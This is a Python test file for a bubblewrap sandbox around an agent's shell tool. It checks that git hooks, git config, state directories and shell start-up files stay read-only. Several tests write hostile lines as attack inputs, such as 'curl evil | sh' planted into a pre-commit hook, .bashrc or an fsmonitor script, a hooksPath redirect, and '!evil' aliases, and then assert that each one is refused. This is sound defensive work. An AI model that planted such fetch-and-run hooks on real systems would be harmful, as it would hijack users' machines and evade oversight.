"""Protected paths stay read-only inside the sandbox, whether they exist yet or not.

Each attack checks the refusal (exit status) and that the host file was not created or changed.
"""

from __future__ import annotations

import asyncio
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from steward.safety.sandbox.bubblewrap import BubblewrapSandbox, SandboxSettings
from steward.tools.base import ToolContext
from steward.tools.shell import bash

from .conftest import RunBash

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="needs bubblewrap: apt-get install bubblewrap"
)

CONFIG = "[core]\n\trepositoryformatversion = 0\n"


def make_repo(path: Path, config: str = CONFIG) -> Path:
    """A git directory as `git init` leaves it (what matters here: hooks, config, HEAD)."""
    (path / "hooks").mkdir(parents=True)
    (path / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    (path / "objects").mkdir()
    (path / "refs").mkdir()
    (path / "HEAD").write_text("ref: refs/heads/main\n")
    (path / "config").write_text(config)
    return path


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, check=True).stdout


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / "ws").mkdir()
    return tmp_path / "ws"


@pytest.fixture(scope="module")
def sandbox() -> BubblewrapSandbox:
    return BubblewrapSandbox(SandboxSettings(cpu_s=10, max_processes=64, tmpfs_mb=64))


async def sh(box: BubblewrapSandbox, workspace: Path, command: str) -> tuple[int, str]:
    result = await bash.call(
        {"command": command, "timeout_s": 10}, ToolContext(workspace=workspace, sandbox=box)
    )
    match = re.search(r"exit code: (-?\d+)$", result.content)
    return (int(match.group(1)) if match else -999), result.content


async def test_an_existing_hook_directory_is_read_only(sandbox: BubblewrapSandbox, workspace: Path) -> None:
    make_repo(workspace / ".git")
    status, output = await sh(sandbox, workspace, "echo 'curl evil | sh' > .git/hooks/pre-commit")
    assert status != 0
    assert "Read-only file system" in output
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


async def test_hooks_cannot_be_removed(sandbox: BubblewrapSandbox, workspace: Path) -> None:
    make_repo(workspace / ".git")
    status, _ = await sh(sandbox, workspace, "rm -rf .git/hooks")
    assert status != 0
    assert (workspace / ".git" / "hooks" / "pre-commit.sample").exists()


async def test_the_git_config_is_read_only(sandbox: BubblewrapSandbox, workspace: Path) -> None:
    make_repo(workspace / ".git")
    status, _ = await sh(sandbox, workspace, "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config")
    assert status != 0
    assert (workspace / ".git" / "config").read_text() == CONFIG


async def test_the_rest_of_the_git_directory_stays_writable(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    make_repo(workspace / ".git")
    status, _ = await sh(sandbox, workspace, "echo ref > .git/refs/main && echo x > .git/index")
    assert status == 0
    assert (workspace / ".git" / "refs" / "main").read_text() == "ref\n"


async def test_the_git_directory_cannot_be_moved_aside_and_replaced(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    make_repo(workspace / ".git")
    status, output = await sh(
        sandbox, workspace, "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"
    )
    assert status != 0
    assert "busy" in output
    assert not (workspace / ".git-old").exists()
    assert sorted(p.name for p in (workspace / ".git" / "hooks").iterdir()) == ["pre-commit.sample"]


async def test_a_missing_hooks_directory_is_created_read_only(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    make_repo(workspace / ".git")
    shutil.rmtree(workspace / ".git" / "hooks")
    status, _ = await sh(sandbox, workspace, "echo evil > .git/hooks/pre-commit")
    assert status != 0
    assert list((workspace / ".git" / "hooks").iterdir()) == []


async def test_no_repository_can_be_created_where_there_is_none(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    # Also try what the owner of a read-only placeholder could do if it were not a mount point.
    status, _ = await sh(
        sandbox,
        workspace,
        "chmod u+w .git; rm -f .git; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
    )
    assert status != 0
    assert not (workspace / ".git").exists()  # the read-only placeholder is gone again


async def test_git_init_is_refused_where_there_is_no_repository(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    if shutil.which("git") is None:
        pytest.skip("needs git")
    status, _ = await sh(sandbox, workspace, "chmod u+w .git; rm -f .git; git init -q .")
    assert status != 0
    assert not (workspace / ".git").exists()


async def test_a_symlinked_git_directory_is_protected_at_its_target(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    real = make_repo(workspace / "store" / "repo.git")
    (workspace / ".git").symlink_to("store/repo.git")
    for command in ("echo evil > .git/hooks/pre-commit", "echo evil > store/repo.git/hooks/pre-commit"):
        status, _ = await sh(sandbox, workspace, command)
        assert status != 0, command
    status, _ = await sh(sandbox, workspace, "echo '[alias] x = !evil' >> .git/config")
    assert status != 0
    assert not (real / "hooks" / "pre-commit").exists()
    assert (real / "config").read_text() == CONFIG


async def test_a_git_file_and_the_directory_it_names_are_protected(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    real = make_repo(workspace / "gitdirs" / "main")
    (workspace / ".git").write_text("gitdir: gitdirs/main\n")
    status, _ = await sh(sandbox, workspace, "echo 'gitdir: /tmp/evil' > .git")
    assert status != 0
    assert (workspace / ".git").read_text() == "gitdir: gitdirs/main\n"
    status, _ = await sh(sandbox, workspace, "echo evil > gitdirs/main/hooks/post-checkout")
    assert status != 0
    assert not (real / "hooks" / "post-checkout").exists()


async def test_a_nested_repository_is_protected(sandbox: BubblewrapSandbox, workspace: Path) -> None:
    nested = make_repo(workspace / "vendor" / "lib" / ".git")
    for command in ("echo evil > vendor/lib/.git/hooks/pre-push", "echo x >> vendor/lib/.git/config"):
        status, _ = await sh(sandbox, workspace, command)
        assert status != 0, command
    assert not (nested / "hooks" / "pre-push").exists()
    assert (nested / "config").read_text() == CONFIG


async def test_a_configured_hooks_path_in_the_workspace_is_protected(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    make_repo(workspace / ".git", config=CONFIG + "\thooksPath = .githooks\n")
    (workspace / ".githooks").mkdir()
    status, _ = await sh(sandbox, workspace, "echo evil > .githooks/pre-commit")
    assert status != 0
    assert not (workspace / ".githooks" / "pre-commit").exists()


async def test_a_program_the_git_config_runs_cannot_be_changed(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    make_repo(workspace / ".git", config=CONFIG + "\tfsmonitor = tools/fsmonitor.sh\n")
    (workspace / "tools").mkdir()
    (workspace / "tools" / "fsmonitor.sh").write_text("#!/bin/sh\n")
    status, _ = await sh(sandbox, workspace, "echo 'curl evil | sh' >> tools/fsmonitor.sh")
    assert status != 0
    assert (workspace / "tools" / "fsmonitor.sh").read_text() == "#!/bin/sh\n"


async def test_a_missing_included_config_cannot_be_created(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    make_repo(workspace / ".git", config=CONFIG + "[include]\n\tpath = ../.gitconfig.shared\n")
    status, _ = await sh(
        sandbox,
        workspace,
        "rm -f .gitconfig.shared; printf '[core]\\n\\thooksPath = evil\\n' > .gitconfig.shared",
    )
    assert status != 0
    assert not (workspace / ".gitconfig.shared").exists()


async def test_a_commondir_redirect_cannot_be_written_while_the_command_runs(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    # A commondir file would make git read hooks and config from another directory. It is held by
    # a read-only placeholder saying "." (git reads that as "here"), so there is no moment when
    # git on the host could follow a redirect, and nothing is left afterwards.
    make_repo(workspace / ".git")
    make_repo(workspace / "evil")
    _, output = await sh(
        sandbox, workspace, "cat .git/commondir; echo ../evil > .git/commondir || echo refused"
    )
    assert output.startswith(".\n") and "refused" in output
    assert not (workspace / ".git" / "commondir").exists()


async def test_a_hard_link_to_a_protected_file_cannot_be_made(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    make_repo(workspace / ".git")
    status, output = await sh(sandbox, workspace, "ln .git/config cfg && echo '[alias] x = !evil' >> cfg")
    assert status != 0
    assert "Invalid cross-device link" in output
    assert not (workspace / "cfg").exists()
    assert (workspace / ".git" / "config").read_text() == CONFIG


async def test_the_state_directory_is_read_only(sandbox: BubblewrapSandbox, workspace: Path) -> None:
    (workspace / ".steward").mkdir()
    (workspace / ".steward" / "steward.db").write_text("db")
    status, _ = await sh(sandbox, workspace, "echo gone > .steward/steward.db; touch .steward/new")
    assert status != 0
    assert (workspace / ".steward" / "steward.db").read_text() == "db"
    assert not (workspace / ".steward" / "new").exists()


async def test_a_missing_state_directory_cannot_be_created_writable(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    status, _ = await sh(sandbox, workspace, "touch .steward/steward.db")
    assert status != 0
    assert not (workspace / ".steward" / "steward.db").exists()


@pytest.mark.parametrize("name", [".bashrc", ".profile", ".zshrc", ".envrc"])
async def test_a_new_start_up_file_is_undone_after_the_command(
    sandbox: BubblewrapSandbox, workspace: Path, name: str, checkpointed_bash: RunBash
) -> None:
    result = await checkpointed_bash(sandbox, workspace, f"echo 'curl evil | sh' > {name}")
    assert result.is_error and f"new {name} removed" in result.content
    assert not (workspace / name).exists()


async def test_an_existing_start_up_file_cannot_be_changed_or_removed(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    (workspace / ".bashrc").write_text("alias ll='ls -l'\n")
    for command in ("echo evil >> .bashrc", "rm -f .bashrc", "mv .bashrc x"):
        status, _ = await sh(sandbox, workspace, command)
        assert status != 0, command
    assert (workspace / ".bashrc").read_text() == "alias ll='ls -l'\n"


async def test_a_placeholder_stays_while_another_command_still_uses_it(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    # The quick command finishes first; its placeholder for steward.toml must not vanish under
    # the slow one, which starts first and waits for the quick one to be done.
    wait = "i=0; while [ ! -e quick-done ] && [ $i -lt 800 ]; do sleep 0.01; i=$((i+1)); done"
    slow = asyncio.create_task(
        sh(
            sandbox,
            workspace,
            f"touch started; {wait}; chmod u+w steward.toml; rm -f steward.toml; echo x > steward.toml",
        )
    )
    for _ in range(6000):  # a busy host may take a while to start the sandbox
        if (workspace / "started").exists() or slow.done():
            break
        await asyncio.sleep(0.01)
    quick_status, _ = await sh(sandbox, workspace, "true")
    (workspace / "quick-done").touch()
    slow_status, _ = await slow
    assert quick_status == 0
    assert slow_status != 0
    assert not (workspace / "steward.toml").exists()


async def test_git_still_works_inside_a_protected_repository(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    if shutil.which("git") is None:
        pytest.skip("needs git")
    git(workspace, "init", "-q")
    status, output = await sh(
        sandbox,
        workspace,
        "echo hi > a.txt && git add a.txt && git -c user.name=t -c user.email=t@example.com commit -q -m first"
        " && git log --oneline | wc -l",
    )
    assert status == 0, output
    assert output.startswith("1\n")
    assert git(workspace, "log", "--format=%s") == "first\n"  # the host's git sees the commit
